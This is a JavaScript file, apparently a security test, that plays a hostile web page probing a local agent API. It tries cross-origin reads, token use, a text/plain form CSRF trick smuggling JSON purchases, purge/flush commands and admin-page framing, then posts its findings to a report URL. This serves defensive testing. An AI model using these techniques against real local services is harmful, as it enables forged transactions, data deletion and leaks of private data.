// What a hostile page tries against the agent, and what it learns: "" is nothing. Everything is tried at once, and some
// of it never ends: the page has done when nothing has for a while.

const got = {};
const sale = (name) => JSON.stringify({
  transaction_id: name.replace(/[^A-Za-z0-9_:-]/g, "_").slice(0, 64), type: "purchase",
  occurred_at: "2026-02-14T16:41:09+01:00", currency: "SEK", total: "250.00",
  lines: [{ kind: "purchase", sku: "SK-77", quantity: "1", gross_paid: "250.00" }],
  payments: [{ type: "card", amount: "250.00" }],
});
const who = JSON.stringify({ identifier: { type: "mobile_phone", value: "+46701740605" } });
const bearer = { Authorization: `Bearer ${told.token}` };
const json = { ...bearer, "Content-Type": "application/json" };
const read = async (answer) => (answer.type === "opaque" ? "" : `read ${answer.status} ${await answer.text()}`);

function element(tag, attributes) {
  return new Promise((resolve) => {
    const made = document.createElement(tag);
    made.onload = () => resolve(`loaded ${tag}`);
    made.onerror = () => resolve("");
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.body.append(made);
  });
}

function frame(src) { // an error page loads too: what counts is whether the page can look into it
  return new Promise((resolve) => {
    const made = document.createElement("iframe");
    made.onload = () => {
      try {
        const text = made.contentDocument?.body?.innerText ?? "";
        resolve(text && `looked into ${text}`);
      } catch { resolve(""); }
    };
    made.src = src;
    document.body.append(made);
  });
}

function form(into, action, name) { // text/plain, so that the body is JSON
  const text = sale(name);
  const made = into.createElement("form");
  Object.assign(made, { action, method: "post", enctype: "text/plain" });
  made.append(Object.assign(into.createElement("input"), { name: `${text.slice(0, -1)},"x":"`, value: '"}' }));
  into.body.append(made);
  made.submit();
  return "";
}

function blank() {
  const made = document.createElement("iframe");
  document.body.append(made);
  return made.contentDocument;
}

async function peek(opened) {
  await new Promise((resolve) => setTimeout(resolve, 2500));
  const text = opened?.document?.body?.innerText ?? "";
  return text && `looked into ${text}`;
}

function xhr(method, url, body, headers) {
  return new Promise((resolve) => {
    const asking = new XMLHttpRequest();
    asking.open(method, url);
    for (const [name, value] of Object.entries(headers)) asking.setRequestHeader(name, value);
    asking.onload = () => resolve(`read ${asking.status} ${asking.responseText}`);
    asking.onerror = () => resolve("");
    asking.send(body);
  });
}

function socket(base) {
  return new Promise((resolve) => {
    const opening = new WebSocket(`${base.replace("http", "ws")}/v1/events`);
    opening.onopen = () => resolve("websocket open");
    opening.onerror = () => resolve("");
  });
}

function events(url) {
  return new Promise((resolve) => {
    const source = new EventSource(url);
    source.addEventListener("status", (event) => resolve(`event ${event.data}`));
    source.onerror = () => { source.close(); resolve(""); };
  });
}

function worker(url) {
  return new Promise((resolve) => {
    const code = `try { importScripts("${url}"); postMessage("imported"); } catch (e) { postMessage(e.name === "NetworkError" ? "" : e.name); }`;
    const made = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    made.onmessage = (event) => resolve(event.data);
    made.onerror = () => resolve("");
  });
}

function attacks(base) {
  const at = (path) => base + path;
  const sales = at("/v1/transactions");
  const plain = { "Content-Type": "text/plain" };
  return {
    "fetch": () => fetch(at("/v1/status")).then(read),
    "fetch an open page": () => fetch(at("/page/status")).then(read),
    "fetch metrics": () => fetch(at("/metrics")).then(read),
    "fetch with cookies": () => fetch(at("/healthz"), { credentials: "include" }).then(read),
    "fetch with the token": () => fetch(at("/v1/status"), { headers: bearer }).then(read),
    "fetch who": () => fetch(at("/v1/contacts/identify"), { method: "POST", headers: json, body: who }).then(read),
    "fetch sale": (name) => fetch(sales, { method: "POST", headers: json, body: sale(name) }).then(read),
    "fetch sale as text": (name) => fetch(sales, { method: "POST", headers: plain, body: sale(name) }).then(read),
    "fetch sale without cors": (name) => fetch(sales, { method: "POST", mode: "no-cors", headers: json, body: sale(name) }).then(read),
    "fetch open page without cors": () => fetch(at("/healthz"), { mode: "no-cors" }).then(read),
    "fetch history with the token": () => fetch(at("/v1/history"), { headers: bearer }).then(read),
    "fetch discard": () => fetch(at("/v1/queue/1/discard"), { method: "POST", headers: json, body: '{"reason": "x"}' }).then(read),
    "fetch order": () => fetch(at("/v1/flush"), { method: "POST", headers: bearer }).then(read),
    "fetch order without cors": () => fetch(at("/v1/purge"), { method: "POST", mode: "no-cors" }).then(read),
    "fetch kept alive": (name) => fetch(sales, { method: "POST", mode: "no-cors", keepalive: true, body: sale(name) }).then(read),
    "fetch put": (name) => fetch(sales, { method: "PUT", headers: json, body: sale(name) }).then(read),
    "fetch for the private network": () => fetch(at("/healthz"), { targetAddressSpace: "loopback" }).then(read),
    "xhr": () => xhr("GET", at("/v1/status"), null, {}),
    "xhr with the token": () => xhr("GET", at("/v1/status"), null, bearer),
    "xhr sale": (name) => xhr("POST", sales, sale(name), json),
    "xhr sale as text": (name) => xhr("POST", sales, sale(name), plain),
    "beacon": (name) => { navigator.sendBeacon(sales, new Blob([sale(name)], plain)); return ""; },
    "beacon json": (name) => { navigator.sendBeacon(sales, new Blob([sale(name)], { type: "application/json" })); return ""; },
    "image": () => element("img", { src: at("/page/icon.svg") }),
    "image of an order": () => element("img", { src: at("/v1/flush") }),
    "script": () => element("script", { src: at("/page/page.js") }),
    "script of a status": () => element("script", { src: at("/page/status") }),
    "module": () => import(at("/page/page.js")).then(() => "imported"),
    "worker": () => worker(at("/page/page.js")),
    "style": () => element("link", { rel: "stylesheet", href: at("/page/page.css") }),
    "prefetch": () => element("link", { rel: "prefetch", href: at("/v1/status") }),
    "object": () => element("object", { data: at("/") }).then(() => ""), // an error page loads too
    "video": () => element("video", { src: at("/healthz") }),
    "frame": () => frame(at("/")),
    "frame of the administrators' page": () => frame(at("/admin")),
    "frame of a status": () => frame(at("/page/status")),
    "form in a frame": (name) => form(blank(), sales, name),
    "form in a window": (name) => form(window.open("about:blank").document, sales, name),
    "window": () => peek(window.open(at("/"))),
    "window of an order": () => peek(window.open(at("/v1/flush"))),
    "websocket": () => socket(base),
    "event source": () => events(at("/page/events")),
  };
}

(async () => {
  await new Promise((done) => {
    let quiet = setTimeout(done, 8000);
    for (const base of told.bases) {
      for (const [name, attack] of Object.entries(attacks(base))) {
        const key = `${name} ${base}`;
        got[key] = "";
        Promise.resolve().then(() => attack(key)).then((spoil) => { got[key] = spoil ?? ""; }, () => {}).finally(() => {
          clearTimeout(quiet);
          quiet = setTimeout(done, 4000);
        });
      }
    }
  });
  fetch(told.report, { method: "POST", mode: "no-cors", body: JSON.stringify(got) });
})();
